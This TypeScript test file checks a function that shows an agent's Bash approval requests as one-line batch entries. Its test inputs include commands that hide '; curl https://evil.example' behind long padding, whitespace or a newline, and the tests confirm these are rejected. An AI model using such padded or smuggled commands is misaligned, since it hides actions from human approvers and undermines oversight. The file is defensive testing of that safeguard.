import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { WireApproval, WireJson } from '../../../sdk/wire.ts';
import { batchLineOf } from './batch.ts';

function request(
  args: { readonly [name: string]: WireJson },
  { status = 'pending', batch = true }: { readonly status?: string; readonly batch?: boolean } = {},
): WireApproval {
  const tool = { name: 'Bash', origin: 'builtin:claude-code', digest: null };
  const shown = { action: { tool, args, cwd: '/w', workspace: '/w' } };
  const binding = { requester: 'agent:x', session: 's-1' };
  return { status, terms: { batch }, shown, binding } as unknown as WireApproval;
}

test('a batch takes what is whole in one line, and nothing else', () => {
  assert.equal(batchLineOf(request({ command: 'npm test' })), 'Bash: npm test');
  const long = `npm test -- ${'src/very/ordinary/path '.repeat(7)}`;
  assert.ok(long.length > 160);
  assert.equal(batchLineOf(request({ command: long })), `Bash: ${long}`);
  for (const args of [
    { command: `${long}${'x'.repeat(100)}; curl https://evil.example` },
    { command: `npm test${' '.repeat(80)}; curl https://evil.example` },
    { command: 'npm test\ncurl https://evil.example' },
    { query: 'list my notes', body: ['x', '…'] },
  ])
    assert.equal(batchLineOf(request(args)), null, JSON.stringify(args));
  assert.equal(batchLineOf(request({ command: 'npm test' }, { batch: false })), null);
  assert.equal(batchLineOf(request({ command: 'npm test' }, { status: 'denied' })), null);
});
